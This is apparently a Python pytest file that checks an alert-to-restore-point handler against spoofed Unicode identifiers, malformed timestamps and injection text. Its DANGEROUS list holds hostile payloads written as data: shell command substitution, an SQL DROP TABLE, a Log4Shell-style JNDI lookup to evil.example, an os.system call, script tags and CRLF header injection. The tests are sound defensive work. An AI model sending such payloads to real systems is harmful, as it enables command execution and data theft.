"""Names and text that look like others, or mean something elsewhere: reliability.md, 6.3, H26 to H36."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest

from handlers.errors import Misconfigured
from handlers.sandbox import estate
from handlers.settings import read_rules
from tests.hostile.rows import Rows
from tests.hostile.stage import PLATFORMS, RULES, SCHEDULE, Stage, asked, firing, simple, token

rows = Rows(
    named={
        "H33": [
            "tests/test_vault_backup.py::test_every_name_fits_and_finds_its_cause_again",
            "tests/test_plan.py::test_names_and_descriptions_are_held_to_the_apis_limits",
        ],
        "H34": ["tests/test_wire.py::test_a_header_value_that_no_header_may_hold_sends_nothing"],
        "H35": ["tests/test_plan.py::test_no_two_lists_of_words_are_written_alike"],
    },
    waiting={},
)
Fresh = Callable[..., Stage]
ERP = estate.ERP_VAULT_ID
NAME = re.compile(r"[A-Za-z0-9_-]{1,58}")

# ── ids ──

FULL_WIDTH = {ord("0") + each: 0xFF10 + each for each in range(10)}
SPELLED = {
    "H26 in capitals": ERP.upper(),
    "H26 one letter a capital": ERP.replace("a4d1", "A4d1"),
    "H26 in braces": "{" + ERP + "}",
    "H26 as a URN": f"urn:uuid:{ERP}",
    "H26 without hyphens": ERP.replace("-", ""),
    "H26 hyphens elsewhere": ERP.replace("-", "", 1) + "-",
    "H27 with a line break behind it": ERP + "\n",
    "H27 with a line break before it": "\n" + ERP,
    "H27 with CR LF": ERP + "\r\n",
    "H27 with a blank": ERP + " ",
    "H28 a Cyrillic a": ERP.replace("a", "\u0430"),
    "H28 full-width digits": ERP.translate(FULL_WIDTH),
    "H28 a full-width hyphen": ERP.replace("-", "\uff0d"),
    "H28 Arabic-Indic digits": ERP.replace("4", "\u0664"),
    "H28 a hyphen that does not break": ERP.replace("-", "\u2011"),
    "H29 a zero-width space inside": ERP[:4] + "\u200b" + ERP[4:],
    "H29 a soft hyphen inside": ERP[:4] + "\u00ad" + ERP[4:],
}


@rows.cases("vault", SPELLED)
def test_a_vault_has_one_spelling(stage: Stage, vault: str) -> None:
    """The right vault in another spelling, which a lenient reader would take for it."""
    with stage.nothing_leaves():
        for said in stage.everywhere("/once/ci", {"checkpoint": {"vault_id": vault}}):
            assert (said.status, said.reasons) == (400, ["malformed"])
            assert said.text.isascii()
        for said in stage.everywhere("/alert/am", firing(vault_id=vault)):
            assert (said.status, said.reasons) == (403, ["vault_not_listed"])
        body = asked(resources=[vault])
        for said in stage.everywhere("/once/ci", body):
            assert (said.status, said.reasons) == (400, ["malformed"])


@rows.cases("vault", {f"{name}, in the rules": vault for name, vault in SPELLED.items()})
def test_the_rules_have_no_other_either(stage: Stage, vault: str) -> None:
    path = stage.folder / "spelled.toml"
    path.write_text(RULES.replace(f'"{ERP}"', json.dumps(vault, ensure_ascii=False)), encoding="utf-8")
    with pytest.raises(Misconfigured) as problem:
        read_rules(path)
    assert "vaults.erp.id" in str(problem.value)


ALIKE: dict[str, tuple[str, dict[str, Any]]] = {
    "H28 a Cyrillic letter in a value": ("/alert/am", firing(severity="critic\u0430l")),
    "H28 a Cyrillic letter in a label's name": ("/alert/am", firing(severity="x", sеverity="critical")),
    "H28 full-width letters": ("/alert/am", firing(severity="\uff43ritical")),
    "H28 capitals": ("/alert/am", firing(severity="CRITICAL")),
    "H28 a long s, which is s in capitals": ("/alert/am", firing(severity="critical".replace("c", "\u017f", 1))),
    "H28 a ligature": ("/alert/mon", simple(host="erp\ufe63db")),
    "H28 KELVIN SIGN": ("/alert/mon", simple(host="\u212aerp-db")),
    "H28 a dotless i": ("/alert/am", firing(severity="crit\u0131cal")),
    "H28 a letter and its accent": ("/alert/am", firing(severity="critical\u0301")),
    "H29 a zero-width space behind it": ("/alert/am", firing(severity="critical\u200b")),
    "H29 written from right to left": ("/alert/am", firing(severity="\u202elacitirc")),
    "H29 a byte order mark inside": ("/alert/am", firing(severity="\ufeffcritical")),
}


@rows.cases("case", ALIKE)
def test_what_looks_like_what_a_rule_wants_is_not_wanted(stage: Stage, case: tuple[str, dict[str, Any]]) -> None:
    with stage.nothing_leaves():
        for said in stage.everywhere(*case):
            assert (said.status, said.reasons) == (200, ["no_rule"])
            assert said.text.isascii()


SENDERS = {
    "H28 a Cyrillic letter in the sender": "\u0430m",
    "H28 full-width letters in the sender": "\uff41m",
    "H28 capitals in the sender": "AM",
    "H29 a zero-width space in the sender": "am\u200b",
    "H27 a line break behind the sender": "am\n",
    "H25 NUL behind the sender": "am\x00",
}


@rows.cases("name", SENDERS)
def test_who_is_called_like_a_sender_is_none(stage: Stage, name: str) -> None:
    with stage.nothing_leaves():
        assert stage.ask("web", f"/alert/{quote(name)}", firing(), bearer=token("am")).status in (400, 401, 404)
        for platform in ("lambda", "functiongraph"):
            said = stage.ask(platform, f"/alert/{name}", firing(), bearer=token("am"))
            assert (said.status, said.reasons) == (401, ["bad_proof"])


RULE = {
    "H28 a Cyrillic letter in a rule": "ci-\u0435rp",
    "H28 capitals in a rule": "CI-ERP",
    "H27 a line break behind a rule": "ci-erp\n",
    "H31 a path for a rule": "../ci-erp",
    "H31 a star for a rule": "*",
}


@rows.cases("rule", RULE)
def test_what_is_called_like_a_rule_is_none(stage: Stage, rule: str) -> None:
    with stage.nothing_leaves():
        for said in stage.everywhere("/once/ci", {"rule": rule}):
            assert (said.status, said.reasons) == (400, ["unknown_rule"])


# ── times ──

STRANGE = {
    "H30 Arabic-Indic digits": "\u0662\u0660\u0662\u0666-11-23T02:00:00Z",
    "H30 full-width digits": "2026-11-23T02:00:00Z".translate(FULL_WIDTH),
    "H30 one such digit": "2026-11-23T02:00:0\u0660Z",
    "H30 a sign": "+2026-11-23T02:00:00Z",
    "H30 an exponent": "2e3",
    "H30 seconds since 1970": "1795399200",
    "H30 an underscore": "2026-11-23T02:00:0_0Z",
    "H30 a line break behind it": "2026-11-23T02:00:00Z\n",
    "H30 without a zone": "2026-11-23T02:00:00",
    "H30 a day no month has": "2026-02-30T02:00:00Z",
}


@rows.cases("time", STRANGE)
def test_a_time_is_written_in_one_way(stage: Stage, time: str) -> None:
    with stage.nothing_leaves():
        for said in stage.everywhere("/timer/cron", {"schedule": "nightly", "scheduled_time": time}):
            assert said.status == 400
        for platform in ("lambda", "functiongraph"):
            assert stage.hand(platform, "timer", {"schedule_arn": SCHEDULE, "scheduled_time": time}).status == 400
            given: dict[str, Any] = {"X_CloudScheduler": "true", "X_CloudScheduler_JobName": "nightly"}
            assert stage.ask(platform, "/timer/cron", b"", **given, X_CloudScheduler_ScheduleTime=time).status == 400


JOBS = {
    "H30 a job's minutes in Arabic-Indic digits": "nightly-\u0662\u0669\u0664\u0660\u0661\u0665\u0666\u0660",
    "H30 a job's minutes in superscript": "nightly-2940156\u00b2",
    "H30 a job's minutes with an underscore": "nightly-29_401_560",
    "H30 a job's minutes and a line break": "nightly-29401560\n",
    "H30 a job's minutes with a sign": "nightly-+29401560",
}


@rows.cases("job", JOBS)
def test_a_jobs_minutes_are_digits(stage: Stage, job: str) -> None:
    with stage.nothing_leaves():
        for said in stage.everywhere("/timer/cron", {"job": job}):
            assert said.status == 400


# ── what becomes of text that is taken ──

DANGEROUS = {
    "H29 a zero-width space": "a\u200bb",
    "H29 from right to left": "\u202egnp.exe",
    "H29 combining marks": "a" + "\u0301" * 50,
    "H29 emoji": "\U0001f600" * 10,
    "H31 a way up": "../../x",
    "H31 a path": "a/b",
    "H31 an option": "-rf",
    "H31 a shell's": "$(id)`id`;id|id&id",
    "H31 SQL's": "'; DROP TABLE wishes; --",
    "H31 a template's": "{{7*7}}",
    "H31 Python's": "{0.__class__}{self}%(x)s",
    "H31 C's": "%s%n%x",
    "H31 a logger's": "${jndi:ldap://evil.example/x}",
    "H31 a name of an object": "__import__('os').system('id')",
    "H32 a script": "<script>alert(1)</script>",
    "H34 a header": "x\r\nX-Injected: 1\r\n\r\nGET / HTTP/1.1\r\n",
    "H34 a header behind a line feed": "x\nX-Injected: 1",
    "H33 of 300 characters": "x" * 300,
}


@rows.cases("text", DANGEROUS)
def test_text_is_data_in_everything_that_leaves(fresh: Fresh, text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """The cloud gets a computed name, a description of plain ASCII and no header of it; the log and the topic stay whole."""
    made = fresh(told=True)
    body = firing(alertname=text, extra=text, **{text[:100]: "x"}) | {"groupKey": text, "externalURL": text, "receiver": text}
    body["alerts"][0] |= {"annotations": {"summary": text, text: text}, "fingerprint": text}
    assert made.ask("lambda", "/alert/am", body).words == ["created"]
    (post,) = made.posts()
    sent = post.body["checkpoint"]
    assert NAME.fullmatch(sent["parameters"]["name"])
    assert set(sent["parameters"]) == {"name", "description"}
    assert sent["parameters"]["description"].isascii()
    assert not set("<>\r\n") & set(sent["parameters"]["description"])
    assert sent["vault_id"] == ERP
    heads = bytes(made.line.sent).split(b"\r\n")
    assert not [each for each in heads if each.lower().startswith((b"x-injected", b"get / http"))]
    for message in made.sandbox.published:
        assert message["subject"].isascii()
        assert message["subject"].isprintable()
    written = capsys.readouterr()
    assert written.err == ""
    assert written.out.isascii()
    assert [json.loads(line)["service"] for line in written.out.splitlines()] == ["restore-point"] * 2


@rows.cases("text", {f"{name}, asked for": text for name, text in DANGEROUS.items()})
def test_no_such_text_becomes_a_name_or_a_key(stage: Stage, text: str) -> None:
    with stage.nothing_leaves():
        bodies: list[dict[str, Any]] = [asked(name=text), {"rule": text}, asked(resources=[text]), asked() | {text: 1}]
        if not text.isascii() or "\n" in text or len(text) > 255:
            bodies.append(asked() | {"idempotency_key": text})
        for body in bodies if text != "-rf" else bodies[1:]:  # a name the API would take
            for said in stage.everywhere("/once/ci", body):
                assert said.status == 400, body
                assert said.text.isascii()


@rows("H32")
def test_annotations_never_reach_the_cloud(fresh: Fresh) -> None:
    made = fresh()
    body = firing()
    body["alerts"][0]["annotations"] = {"summary": "CANARY-ONE", "description": "<script>CANARY-TWO</script>"}
    body |= {"commonAnnotations": {"summary": "CANARY-THREE"}}
    assert made.ask("functiongraph", "/alert/am", body).words == ["created"]
    assert b"CANARY" not in bytes(made.line.sent)


@rows("H29", "H32")
def test_the_topic_gets_plain_text(fresh: Fresh) -> None:
    made = fresh(told=True)
    body = firing(alertname="a\u202eb<b>\n\nOutcome: available")
    assert made.ask("lambda", "/alert/am", body).words == ["created"]
    (message,) = made.sandbox.published
    text = message["message"]
    assert text.isascii()
    assert "<b>" not in text
    assert "\nOutcome: available" not in text


# ── names ──

GIVEN: dict[str, tuple[str, int]] = {
    "H33 none": ("", 400),
    "H33 65 characters": ("n" * 65, 400),
    "H33 a megabyte less a little": ("n" * 1_000_000, 400),
    "H33 a blank": ("a b", 400),
    "H33 a dot": ("a.b", 400),
    "H33 not ASCII": ("caf\u00e9", 400),
    "H33 a line break behind it": ("name\n", 400),
}


@rows.cases("case", GIVEN)
def test_a_name_the_api_does_not_take_is_refused(stage: Stage, case: tuple[str, int]) -> None:
    with stage.nothing_leaves():
        for said in stage.everywhere("/once/ci", asked(name=case[0])):
            assert (said.status, said.reasons) == (case[1], ["malformed"])


@rows("H33")
@pytest.mark.parametrize("name", ["n" * 64, "n", "-", "x-0001", "x-08b581ff073d1d79-0001", "-" * 64])
def test_any_other_is_clipped_and_carries_the_cause(fresh: Fresh, name: str) -> None:
    made = fresh()
    assert made.ask("lambda", "/once/ci", asked(name=name)).words == ["created"]
    (post,) = made.posts()
    sent = post.body["checkpoint"]["parameters"]["name"]
    assert len(sent) <= 58
    assert re.fullmatch(r"[A-Za-z0-9_-]+-[0-9a-f]{16}", sent)


# ── causes ──

CAUSES: dict[str, tuple[dict[str, str], dict[str, str], int]] = {
    "H35 a comma in a value": ({"a": "b,c"}, {"a": "b", "c": ""}, 2),
    "H35 the border moved": ({"ab": "c"}, {"a": "bc"}, 2),
    "H35 a name in a value": ({"a": "b", "c": "d"}, {"a": "b=c=d", "c": ""}, 2),
    "H35 lengths that look alike": ({"a": "1:b"}, {"a": "1", "b": ""}, 2),
    "H35 two values changed places": ({"a": "x", "b": "y"}, {"a": "y", "b": "x"}, 2),
    "H35 an empty label": ({"a": "x"}, {"a": "x", "b": ""}, 2),
    "H36 another order": ({"a": "x", "b": "y"}, {"b": "y", "a": "x"}, 1),
    "H36 another form": ({"a": unicodedata.normalize("NFC", "caf\u00e9")}, {"a": unicodedata.normalize("NFD", "caf\u00e9")}, 2),
    "H36 a compatible letter": ({"a": "\ufb01"}, {"a": "fi"}, 2),
    "H36 another case": ({"a": "X"}, {"a": "x"}, 2),
}


@rows.cases("case", CAUSES)
def test_two_alerts_are_as_many_causes_as_they_are(
    fresh: Fresh, capsys: pytest.CaptureFixture[str], case: tuple[dict[str, str], dict[str, str], int]
) -> None:
    made = fresh()
    one, other, wanted = case
    body = firing(one | {"severity": "critical"}, other | {"severity": "critical"})
    if list(one) != list(other):  # the one as it came, the other as its keys are sorted by whoever writes JSON
        body["alerts"][1]["labels"] = dict(reversed(body["alerts"][1]["labels"].items()))
    assert made.ask("lambda", "/alert/am", body).words == ["created"]
    line = next(each for each in map(json.loads, capsys.readouterr().out.splitlines()) if "restore_points" in each)
    assert line["restore_points"][0]["causes"] == wanted
    assert len(made.posts()) == 1


@rows("H36")
@pytest.mark.parametrize("platform", PLATFORMS[1:])
def test_the_same_labels_in_another_order_are_one_restore_point(fresh: Fresh, platform: str) -> None:
    made = fresh()
    labels = {"alertname": "A", "host": "erp-db", "severity": "critical"}
    first, second = (made.ask(platform, "/alert/am", firing(each)) for each in (labels, dict(reversed(labels.items()))))
    assert (first.words, second.words) == (["created"], ["joined"])
    assert len(made.posts()) == 1
